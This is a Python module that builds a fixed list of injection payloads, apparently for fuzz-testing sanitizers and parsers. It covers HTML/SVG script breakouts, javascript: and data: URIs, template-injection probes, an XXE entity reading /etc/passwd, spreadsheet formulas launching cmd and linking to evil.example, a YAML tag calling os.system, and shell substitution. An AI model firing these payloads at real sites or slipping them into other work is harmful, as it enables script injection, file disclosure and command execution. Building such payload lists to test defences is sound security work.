"""Hostile text, made by rules: what has ever broken out of HTML, SVG, XML, JSON, CSV, YAML, scripts and templates."""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator
from typing import Final

_BREAKOUTS: Final = (
    *("", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</a>", "</td>"),
    *("</pre>", "</summary>", "</option></select>", "</svg>", "?>", '"', "'", "`", "\\", "--!>", "</xmp>", "<!--"),
)
_TAGS: Final = (
    *("script", "img", "svg", "iframe", "object", "embed", "math", "style", "link", "meta", "base", "form", "input"),
    *("button", "details", "video", "audio", "marquee", "body", "template", "noscript", "textarea", "title", "xmp"),
    *("plaintext", "select", "table", "a", "keygen", "dialog", "portal", "x-own", "SCRIPT", "sCrIpT", "svg/", "img\n"),
)
_HANDLERS: Final = (
    *("onerror", "onload", "onclick", "onfocus autofocus", "ontoggle open", "onmouseover", "onpointerenter"),
    *("onanimationstart", "onbegin", "oncut", "ONERROR", "onerror\n", "onbeforetoggle popover"),
)
_SCHEMES: Final = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        " javascript:alert(1)",
    ),
    *("\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)"),
    *("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    *(
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//evil.example/x.js",
        "\\\\evil.example\\x",
        "blob:x",
        "view-source:x",
    ),
)
_CARRIERS: Final = (
    *(
        '<a href="{}">x</a>',
        "<a href={}>x</a>",
        '<iframe src="{}"></iframe>',
        '<form action="{}"><input type=submit></form>',
    ),
    *(
        "[x]({})",
        "[x][1]\n\n[1]: {}",
        "<{}>",
        "![x]({})",
        '<base href="{}">',
        '<meta http-equiv=refresh content="0;url={}">',
    ),
    *('<svg><a xlink:href="{}"><text>x</text></a></svg>', '<link rel=stylesheet href="{}">', "{}"),
)
_TEMPLATES: Final = (
    *(
        "{{7*7}}",
        "{{ config }}",
        "{% raw %}",
        "{% endblock %}",
        "{# x",
        "#}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "[[7*7]]",
    ),
    *(
        "{{''.__class__.__mro__}}",
        "{0.__class__}",
        "%s%n%(x)s",
        "{}",
        "{x!r}",
        "\\g<0>",
        "$&",
        "$(id)",
        "`id`",
        "'; --",
    ),
)
_CODES: Final = (
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "&#x3c;img src=x onerror=alert(1)&#x3e;",
        "&amp;lt;b&amp;gt;",
    ),
    *(
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003e",
        "\\x3cscript\\x3e",
        "+ADw-script+AD4-",
        "&notit;&lang",
        "&#0;",
    ),
    *(
        "\u2028alert(1)",
        "\u2029alert(1)",
        "＜script＞alert(1)＜/script＞",
        "\u202e>tpircs<",
        "\u200b<script\u200b>",
        "\ufeff<b>",
    ),
    *(
        "\ufffd<b>",
        "<scr\u00adipt>",
        "ſcript",
        "<ımg>",
        "\u1680<b>",
        "\x7f<b>",
        "\x0c<b>",
        "\x1b[31m",
        "\x85<b>",
        "a\u0300" * 9,
    ),
    *(
        "𠮷<b>",
        "👩‍👩‍👧<b>",
        "\u2066<b>\u2069",
        "٣",
        "¼script¾",
        "‹script›",
        "＂＞＜ｂ＞",
        "\U000e0041",
        "%00",
        "\r\n\r\n<b>",
    ),
)
_MARKUP: Final = (
    *(
        "<![CDATA[<script>alert(1)</script>]]>",
        "]]>",
        "<!--",
        "-->",
        "--!>",
        "<!-- --!><b>",
        "<!DOCTYPE x>",
        "<?xml version='1.0'?>",
    ),
    *(
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "&x;",
        "&xxe;",
        "<?php echo 1 ?>",
        "<?xml-stylesheet href='x'?>",
        "</svg><b>",
    ),
    *("</feed>", "</entry><entry>", "</url><url>", "<x xmlns='urn:x'/>", "<svg><foreignObject><b>", "<use href='#x'/>"),
    *(
        '"},{"x":"',
        '\\"',
        "\\",
        "\\\\",
        "/* */",
        "//",
        "*/",
        '"]}',
        "\\u0000",
        "__proto__",
        "constructor",
        "null",
        "true",
        "1e999",
    ),
)
_FORMULAS: Final = tuple(
    f"{begin}{formula}"
    for begin in ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "\ufeff=", ";=", '"=')
    for formula in ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "1+1", "SUM(A1:A9)")
)
_YAML: Final = (
    *(
        "!!python/object/apply:os.system [id]",
        "!!binary x",
        "!x y",
        "&a x",
        "*a",
        "<<: *a",
        "---",
        "...",
        "- x",
        "? x",
        ": x",
    ),
    *(
        "x: y",
        "x #y",
        "#x",
        "|",
        ">",
        "|2-",
        "%YAML 1.1",
        "{x: y}",
        "[x]",
        "'x",
        '"x',
        "yes",
        "NO",
        "~",
        "null",
        "010",
        "0x1f",
    ),
    *(
        "1_000",
        "12:30:45",
        "2024-01-01",
        ".nan",
        ".inf",
        "=",
        "- - x",
        "x:\n  y: z",
        "\tx",
        "@x",
        "`x`",
        "x\n---\ny: z",
    ),
)


def payloads() -> tuple[str, ...]:
    """Give every payload once, always in the same order."""
    return tuple(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    rotating = itertools.cycle(_BREAKOUTS)
    for tag, handler in itertools.product(_TAGS, _HANDLERS):
        yield f"{next(rotating)}<{tag} src=x href=x {handler}=alert(1)>"
    for breakout in _BREAKOUTS:
        yield f"{breakout}<script>alert(1)</script>"
        yield f"{breakout} onmouseover=alert(1) x={breakout}"
    for number, scheme in enumerate(_SCHEMES):
        yield from (carrier.format(scheme) for carrier in _CARRIERS[number % 2 :: 2])
    yield from (*_TEMPLATES, *_CODES, *_MARKUP, *_FORMULAS, *_YAML)


_MARKS: Final = re.compile(r"[^\w\s.]|_", re.ASCII)


def harmless(text: str) -> str:
    """Give a text of the same shape that nothing could take for anything else."""
    return re.sub(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]", "文", _MARKS.sub("文", text))
